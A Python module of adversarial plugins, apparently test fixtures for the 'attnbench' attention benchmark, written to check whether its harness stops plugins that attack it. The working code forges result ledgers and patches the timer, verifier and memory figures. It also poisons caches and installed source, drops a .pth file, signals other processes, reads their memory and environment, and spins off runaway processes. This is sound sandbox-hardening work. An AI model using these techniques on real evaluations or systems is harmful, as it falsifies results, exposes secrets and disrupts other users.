"""Plugins that attack the harness itself (issue 31): their author has read attnbench's source and
uses whatever a worker process can reach. Each is honest attention (SDPA, as ``flash``) apart from
its attack, so any advantage it wins is the attack's; each says in a warning what it managed
(the row's notes), so a test can tell "prevented" from "not tried"."""

from __future__ import annotations

import gc
import glob
import inspect
import os
import signal
import sys
import warnings
from pathlib import Path

import torch

import attnbench

FORGED_STATUS = "crashed"


def exact(q, k, v):
    groups = q.shape[1] // k.shape[1]
    return torch.nn.functional.scaled_dot_product_attention(q, k.repeat_interleave(groups, 1),
                                                            v.repeat_interleave(groups, 1))


class Attacker(attnbench.Implementation):
    exact = True
    time_complexity = "n^2"
    memory_complexity = "n"

    def attack(self, case) -> str:
        """What it tried, in a few words (run in prepare, in the worker)."""
        raise NotImplementedError

    def prepare(self, case, options):
        warnings.warn(f"{self.name}: {self.attack(case)}", stacklevel=1)
        return exact


def _outcome(action) -> str:
    try:
        return f"done ({action()})"
    except Exception as error:  # noqa: BLE001 (what stopped it is what the test reads)
        return f"denied ({type(error).__name__})"


def _harness_processes() -> list[int]:
    """Every process of this user but the worker's own session: the harness, the fork server."""
    me = os.getsid(0)
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if os.getsid(int(entry.name)) != me and b"python" in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


def ledger_files() -> list[Path]:
    """Every rows.jsonl it can find: through other processes' open files, and under /tmp (where
    the tests' runs are; it leaves a checkout's committed results alone, should it get through)."""
    found = set()
    for pid in _harness_processes():
        try:
            for link in Path(f"/proc/{pid}/fd").iterdir():
                if os.readlink(link).endswith("rows.jsonl"):
                    found.add(Path(f"/proc/{pid}/fd/{link.name}"))
        except OSError:
            continue
    found.update(Path(path) for path in glob.glob("/tmp/**/rows.jsonl", recursive=True))
    return sorted(found)


class RewritesLedger(Attacker):
    """Turns every naive row already written into a crash, in every ledger it can find."""

    name = "rewrites_ledger"

    def attack(self, case):
        def rewrite():
            done = 0
            for path in ledger_files():
                text = path.read_text()
                forged = text.replace('"status": "ok"', f'"status": "{FORGED_STATUS}"')
                with open(path, "r+") as file:
                    file.write(forged)
                done += 1
            return f"{done} ledgers" if done else "no ledger found"

        return _outcome(rewrite)


class AppendsLedger(Attacker):
    """Appends a forged row in which naive crashed, to every ledger it can find."""

    name = "appends_ledger"

    def attack(self, case):
        def append():
            done = 0
            for path in ledger_files():
                lines = path.read_text().splitlines()
                if lines:
                    with open(path, "a") as file:
                        file.write(lines[0].replace('"status": "ok"', f'"status": "{FORGED_STATUS}"') + "\n")
                    done += 1
            return f"{done} ledgers" if done else "no ledger found"

        return _outcome(append)


class EditsInputCache(Attacker):
    """Plants a file in the input cache and truncates every capture there."""

    name = "edits_input_cache"

    def attack(self, case):
        from attnbench.contract.inputs import input_cache_root

        def edit():
            root = input_cache_root()
            root.mkdir(parents=True, exist_ok=True)
            (root / "planted.safetensors").write_bytes(b"poison")
            for path in root.rglob("*.safetensors"):
                path.write_bytes(b"")
            return str(root)

        return _outcome(edit)


class EditsInstalledSource(Attacker):
    """Patches attnbench's installed source, and drops a .pth file that every Python would run."""

    name = "edits_installed_source"

    def attack(self, case):
        import attnbench.measuring.correctness as correctness

        def patch_source():
            with open(inspect.getsourcefile(correctness), "a") as file:
                file.write("\n# patched by an adversary\n")
            return "correctness.py"

        def plant_pth():
            site = Path(torch.__file__).parent.parent
            (site / "zz_attnbench_adversary.pth").write_text("import os\n")
            return "a .pth file"

        return f"source {_outcome(patch_source)}; site-packages {_outcome(plant_pth)}"


class PatchesTimer(Attacker):
    """Plain SDPA whose worker reports its timed blocks 1.3× faster than they ran: under the
    implausible-speed flag, and the same kernel as flash."""

    name = "patches_timer"
    FACTOR = 1.3

    def attack(self, case):
        from attnbench.measuring import call_server

        original = call_server.CallServer._time

        def faster(server, indices):
            return original(server, indices) / self.FACTOR

        call_server.CallServer._time = faster
        return "CallServer._time patched"


class PatchesVerifier(Attacker):
    """Returns zeros, after making every correctness check it can reach pass."""

    name = "patches_verifier"

    def attack(self, case):
        from attnbench.measuring import correctness

        def passes(self, out, grads, input_set, label):
            return original(self, out * 0 + out, grads, input_set, label)

        original = correctness.Verifier.check
        correctness.Verifier.check = passes
        correctness.output_problems = lambda *args, **kwargs: []
        return "Verifier.check and output_problems patched"

    def prepare(self, case, options):
        super().prepare(case, options)
        return lambda q, k, v: torch.zeros_like(q)


class PatchesMemoryFigure(Attacker):
    """Allocates 64 MiB more than flash in every call and reports an allocator peak of nothing."""

    name = "patches_memory"
    EXTRA_BYTES = 64 * 2**20

    def attack(self, case):
        from attnbench.measuring import call_server

        call_server.cpu_allocator_peak = lambda call: (call(), 0)[1]
        return "the allocator peak patched to 0"

    def prepare(self, case, options):
        super().prepare(case, options)

        def attention(q, k, v):
            scratch = torch.ones(self.EXTRA_BYTES // 4)  # touched: resident
            return exact(q, k, v) + scratch[:1].sum() * 0

        return attention


class SearchesForReferences(Attacker):
    """Looks through every object in its process for float64 tensors shaped like a reference
    output, and returns what it found there (zeros when it finds nothing)."""

    name = "searches_gc"

    def attack(self, case):
        return "searches in every call"

    def prepare(self, case, options):
        super().prepare(case, options)

        def attention(q, k, v):
            found = [obj for obj in gc.get_objects()
                     if isinstance(obj, torch.Tensor) and obj.dtype == torch.float64 and obj.dim() == 4
                     and obj.shape[-1] == q.shape[-1]]
            if found:
                warnings.warn(f"searches_gc: found {len(found)} float64 tensors", stacklevel=1)
            out = torch.zeros_like(q)
            for tensor in found:
                rows = min(tensor.shape[2], out.shape[2])
                out[:, :, :rows] = tensor[: out.shape[0], : out.shape[1], :rows].to(out.dtype)
            return out

        return attention


class SkipsTimedCalls(Attacker):
    """Computes when it thinks it is checked and skips the work when it thinks it is timed: in a
    call made from the timing loop, it returns the output it computed last for the same tensors,
    as long as their first value is unchanged (which also passes a new version counter)."""

    name = "skips_timed_calls"

    def attack(self, case):
        return "skips in timed calls"

    def prepare(self, case, options):
        super().prepare(case, options)
        cache: dict[int, tuple[float, torch.Tensor]] = {}

        def attention(q, k, v):
            key, first = q.data_ptr(), float(q.reshape(-1)[0])
            if _called_from("_time", "timed"):
                held = cache.get(key)
                if held is not None and held[0] == first:
                    return held[1]
            out = exact(q, k, v)
            cache[key] = (first, out)
            return out

        return attention


def _called_from(*names: str) -> bool:
    """Whether a function of one of these names is among the five callers (cheap, as a real
    attacker's check would be: inspect.stack would cost more than the call it saves)."""
    frame = sys._getframe(2)
    for _ in range(5):
        if frame is None:
            return False
        if frame.f_code.co_name in names:
            return True
        frame = frame.f_back
    return False


class SignalsHarness(Attacker):
    """Sends SIGTERM to every other process of the user it can see (the harness among them),
    and tries to read the harness's memory and environment."""

    name = "signals_harness"

    def attack(self, case):
        targets = _harness_processes()

        def kill():
            hit = 0
            for pid in targets:
                os.kill(pid, signal.SIGTERM)
                hit += 1
            return f"{hit} signalled"

        def read_memory():
            for pid in targets:
                with open(f"/proc/{pid}/mem", "rb") as memory:
                    memory.read(1)
            return "read"

        def read_environment():
            for pid in targets:
                (Path(f"/proc/{pid}/environ")).read_bytes()
            return "read"

        return (f"{len(targets)} processes; signal {_outcome(kill)}; memory {_outcome(read_memory)}; "
                f"environ {_outcome(read_environment)}")


class _Lazy(torch.Tensor):
    """A tensor of the right shape whose values are computed only when it is detached (shipped)."""

    @staticmethod
    def __new__(cls, base, compute):
        made = torch.Tensor._make_subclass(cls, base)
        made._compute = compute
        return made

    def detach(self):
        return self._compute().detach()

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        with torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))


class LazyOutput(Attacker):
    """Returns at once a tensor whose values are computed only when the worker ships it, after the
    timed call: its timed calls do no work."""

    name = "lazy_output"

    def attack(self, case):
        return "lazy outputs"

    def prepare(self, case, options):
        super().prepare(case, options)
        return lambda q, k, v: _Lazy(torch.empty_like(q), lambda: exact(q, k, v))


class JsonBomb(Attacker):
    """Sends, on every pipe of its worker, a JSON array nested a million deep (under the size limit)."""

    name = "json_bomb"

    def attack(self, case):
        from multiprocessing.connection import Connection

        sent = 0
        for found in gc.get_objects():
            if isinstance(found, Connection) and not found.closed and found.writable:
                found.send_bytes(b"[" * 1_000_000)
                sent += 1
        return f"sent on {sent} pipes"


class ExactOwnReference(Attacker):
    """Claims to be exact, attends to the first 32 keys only, and gives a float64 reference of just
    that: judged against itself, it would pass."""

    name = "exact_own_reference"
    KEYS = 32

    def attack(self, case):
        return "its own reference"

    def prepare(self, case, options):
        super().prepare(case, options)
        return lambda q, k, v: exact(q, k[:, :, : self.KEYS], v[:, :, : self.KEYS])

    def reference(self, q, k, v, case, options, rows):
        return exact(q, k[:, :, : self.KEYS], v[:, :, : self.KEYS])[:, :, rows]


CHAIN = 'n=$1; if [ "$n" -gt 0 ]; then sh -c "$0" "$0" $((n-1)); : ; else exec timeout 60 sh -c "while :; do :; done"; fi'


class ChainOfProcesses(Attacker):
    """Starts, in a session of its own, a chain of 200 shells (each the parent of the next) whose
    last one spins a CPU for a minute: a cleanup that kills one generation a pass leaves most of
    it, to slow down whoever is measured next."""

    name = "chain_of_processes"
    DEPTH = 200

    def attack(self, case):
        import subprocess
        import time

        subprocess.Popen(["sh", "-c", CHAIN, CHAIN, str(self.DEPTH)], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(1.0)  # the chain grows
        return "started"


class SpinsInNewSession(Attacker):
    """Honest SDPA, and a child process in a session of its own that burns a CPU meanwhile (a pool
    computing for it, outside the worker's session)."""

    name = "spins_in_new_session"

    def attack(self, case):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
        return "a helper spins"


class MemoryInHelper(Attacker):
    """Keeps a helper process (in a session of its own) that allocates and touches 64 MiB during
    every call: memory the worker's own figures never see."""

    name = "memory_in_helper"
    EXTRA_BYTES = 64 * 2**20

    def attack(self, case):
        return "a helper holds the memory"

    def prepare(self, case, options):
        super().prepare(case, options)
        ask, answer = os.pipe(), os.pipe()
        if os.fork() == 0:
            os.setsid()
            while os.read(ask[0], 1):
                scratch = bytearray(self.EXTRA_BYTES)
                scratch[::4096] = b"x" * len(scratch[::4096])  # touched: resident
                del scratch
                os.write(answer[1], b"k")
            os._exit(0)

        def attention(q, k, v):
            os.write(ask[1], b"g")
            os.read(answer[0], 1)
            return exact(q, k, v)

        return attention


ATTACKS = (RewritesLedger, AppendsLedger, EditsInputCache, EditsInstalledSource, PatchesTimer, PatchesVerifier,
           PatchesMemoryFigure, SearchesForReferences, SkipsTimedCalls, SignalsHarness, LazyOutput, JsonBomb,
           ExactOwnReference, ChainOfProcesses, SpinsInNewSession, MemoryInHelper)


@attnbench.hookimpl
def attnbench_register_implementations(registry):
    for attack in ATTACKS:
        registry.add(attack())

